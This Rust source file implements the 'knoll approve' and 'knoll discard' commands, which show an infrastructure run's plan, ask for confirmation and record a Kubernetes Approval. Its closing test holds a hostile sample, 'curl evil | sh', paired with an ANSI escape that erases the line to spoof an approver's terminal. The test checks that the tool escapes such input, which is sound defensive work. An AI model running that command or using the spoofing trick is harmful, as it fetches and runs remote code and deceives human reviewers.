//! `knoll approve` and `knoll discard`: record a decision on the digest of the plan that was shown.

use std::process::ExitCode;
use std::time::Duration;

use anyhow::{Result, anyhow, bail};
use knoll_api::approval::{Approval, ApprovalPhase, Decision, PolicyDecision};
use knoll_api::names::{self, condition, field_manager};
use knoll_api::run::Run;
use knoll_core::approval::{self, NotWaiting};
use kube::ResourceExt;
use kube::api::PostParams;
use kube::runtime::wait::await_condition;

use super::{covers, diff, list, plan_text, verdict};
use crate::connect::{Connection, Explain};
use crate::run::follow;
use crate::workspace::Session;
use crate::{output, style};

/// How long a decision waits for the operator, which usually reads it within a second.
const PATIENCE: Duration = Duration::from_secs(10);

pub const APPROVE: Decision = Decision::Approve;
pub const DISCARD: Decision = Decision::Discard;

/// The arguments of `knoll approve` and `knoll discard`.
#[derive(clap::Args)]
pub struct DecisionArgs {
    #[command(flatten)]
    connection: Connection,
    /// The run
    #[arg(add = crate::complete::runs(), value_parser = crate::workspace::plain_name::<knoll_api::Run>)]
    run: String,
    /// A comment for the record
    #[arg(long, short, env = "KNOLL_COMMENT", value_name = "TEXT")]
    comment: Option<String>,
    /// Override the rules of policies that deny the plan; needs a comment (`knoll approve` only)
    #[arg(long = "override", env = "KNOLL_OVERRIDE", requires = "comment")]
    overrides: bool,
    /// Do not ask for confirmation
    #[arg(long, short, env = "KNOLL_YES")]
    yes: bool,
    /// Follow the output until the run has finished
    #[arg(long, env = "KNOLL_FOLLOW")]
    follow: bool,
}

/// Shows the plan, asks for confirmation, and creates the Approval.
pub async fn run(args: DecisionArgs, decision: Decision, outer: &Connection) -> Result<ExitCode> {
    let (verb, done) = match decision {
        Decision::Approve => ("approve", "Approved"),
        Decision::Discard => ("discard", "Discarded"),
    };
    if args.overrides && decision == Decision::Discard {
        bail!("`--override` is for `knoll approve`\n  a run that is discarded needs none, leave it out");
    }
    let session = Session::find(&args.connection.or(outer)).await?;
    let run = super::get(&session, &args.run).await?;
    let name = run.name_any();
    let digest = waiting_digest(&run)?;
    show(&session, &run, decision).await?;
    if !args.yes {
        if !style::can_ask() {
            bail!(
                "`knoll {verb}` asks for confirmation, and there is no terminal\n  add `--yes` if you have reviewed the plan"
            );
        }
        if !style::confirm(&format!("{} this plan ({})?", capital(verb), short(&digest)))? {
            bail!(
                "no decision was recorded; run `{name}` is still waiting for one\n  `knoll discard {name}` ends it without a change"
            );
        }
        // Someone else may have decided in the meantime.
        waiting_digest(&super::get(&session, &name).await?)?;
    }
    let decider = session.cluster.decider().await?.clone();
    let by = decider.name.clone();
    let params = PostParams { field_manager: Some(field_manager::CLI.to_owned()), ..PostParams::default() };
    let mut approval = approval::request(&run, digest, decision, decider, args.comment);
    approval.spec.policy = args.overrides.then_some(PolicyDecision::Override);
    let created = session.api::<Approval>().create(&params, &approval).await;
    let created = created.explain(&session.cluster, &format!("cannot {verb} run `{name}`"))?;
    match effect(&session, &created).await {
        Effect::None(why) => {
            bail!("run `{name}` was not {} by Approval `{}`: {why}", done.to_lowercase(), created.name_any())
        }
        Effect::Counted(message) => {
            style::say(done, &format!("run `{name}`, as {by}"));
            style::hint_aside(&message);
        }
        Effect::Effective => style::say(done, &format!("run `{name}`, as {by}")),
        Effect::Unknown => {
            style::say(done, &format!("run `{name}`, as {by}"));
            let approval = created.name_any();
            style::hint_aside(&format!("The operator has not read the Approval `{approval}` yet; is it running?"));
        }
    }
    if args.follow {
        let outcome = follow::follow(&session, super::get(&session, &name).await?).await?;
        return Ok(follow::exit(&outcome, &name));
    }
    Ok(ExitCode::SUCCESS)
}

/// The result of a recorded decision.
#[derive(Debug, PartialEq, Eq)]
enum Effect {
    Effective,
    /// The run waits for further Approvals.
    Counted(String),
    /// The decision changed nothing, for this reason.
    None(String),
    /// The operator did not reconcile the Approval in time.
    Unknown,
}

/// Waits until the operator has reconciled the Approval, at most [`PATIENCE`].
async fn effect(session: &Session, approval: &Approval) -> Effect {
    let is_read = |found: Option<&Approval>| found.is_none_or(|found| phase(found) != ApprovalPhase::Pending);
    let name = approval.name_any();
    let found = await_condition(session.api::<Approval>(), &name, is_read);
    match tokio::time::timeout(PATIENCE, found).await {
        Ok(Ok(Some(approval))) => effect_of(&approval),
        // The Approval was deleted, or this user may not watch it.
        Ok(Ok(None) | Err(_)) | Err(_) => Effect::Unknown,
    }
}

fn phase(approval: &Approval) -> ApprovalPhase {
    approval.status.as_ref().map(|status| status.phase).unwrap_or_default()
}

fn effect_of(approval: &Approval) -> Effect {
    let conditions = approval.status.iter().flat_map(|status| &status.conditions);
    let ready = conditions.into_iter().find(|found| found.type_ == condition::READY);
    let message = ready.map(|ready| ready.message.clone()).unwrap_or_default();
    match phase(approval) {
        ApprovalPhase::Effective => Effect::Effective,
        ApprovalPhase::Counted => Effect::Counted(message),
        ApprovalPhase::NoEffect => Effect::None(message),
        ApprovalPhase::Pending => Effect::Unknown,
    }
}

fn waiting_digest(run: &Run) -> Result<String> {
    approval::waiting_digest(run).map_err(|why| match &why {
        NotWaiting::NotYet { run, .. } => anyhow!("{why}\n  `knoll run show {run}` shows its progress"),
        NotWaiting::Decided { .. } | NotWaiting::Finished { .. } => anyhow!("{why}"),
    })
}

/// Prints everything that the decision covers. A plan whose text is not the one that was made cannot be approved; it can
/// be discarded.
async fn show(session: &Session, run: &Run, decision: Decision) -> Result<()> {
    let status = run.status.clone().unwrap_or_default();
    let mut text = heading(run);
    if run.spec.input.is_some() {
        let secret = names::input_secret(&run.name_any());
        text += &format!("Its variable files, values and piped input are in the Secret `{secret}`.\n");
    }
    match plan_text::read(session, run).await {
        Ok(plan) => text += &plan.map(|plan| format!("\n{plan}\n")).unwrap_or_default(),
        Err(error) if decision == Decision::Discard => style::note(&plan_text::refusal(run, &error)),
        Err(error) => {
            let name = run.name_any();
            bail!(
                "{}\n  no decision was recorded: `knoll discard {name}`, and run it again",
                plan_text::refusal(run, &error)
            );
        }
    }
    if let Some(plan) = &status.plan {
        text += &diff::changes(plan, style::stdout_is_coloured());
    }
    let rules = verdict::text(&status);
    if !rules.is_empty() {
        text += &format!("\n{rules}\n");
    }
    text += &covers::text(&status);
    output::print(&text)
}

/// What the run does, in its own words. They are the requester's, and must not look like something else.
fn heading(run: &Run) -> String {
    let words = output::visible_line(&list::words(run));
    format!("Run `{}` in workspace `{}`: {words}\n", run.name_any(), run.spec.workspace)
}

fn capital(text: &str) -> String {
    let mut chars = text.chars();
    chars.next().map(|first| first.to_uppercase().chain(chars).collect()).unwrap_or_default()
}

fn short(digest: &str) -> &str {
    digest.get(..19).unwrap_or(digest)
}

#[cfg(test)]
mod tests {
    use knoll_api::run::{Operation, RunSpec};

    use super::*;

    /// Arguments of a command could erase themselves from an approver's terminal, and write harmless ones.
    #[test]
    fn the_arguments_of_a_run_hid_themselves_from_its_approver() {
        let args =
            vec!["-c".to_owned(), "curl evil | sh #\u{1b}[2K\rRun `net-1` in workspace `net`: plan\n".to_owned()];
        let spec = RunSpec {
            workspace: "net".to_owned(),
            operation: Operation::Command,
            command: Some("sh".to_owned()),
            args,
            ..RunSpec::default()
        };
        let expect = "Run `net-1` in workspace `net`: \
                      sh -c curl evil | sh #\\u{1b}[2K\\rRun `net-1` in workspace `net`: plan\n";
        assert_eq!(heading(&Run::new("net-1", spec)), expect);
    }
}
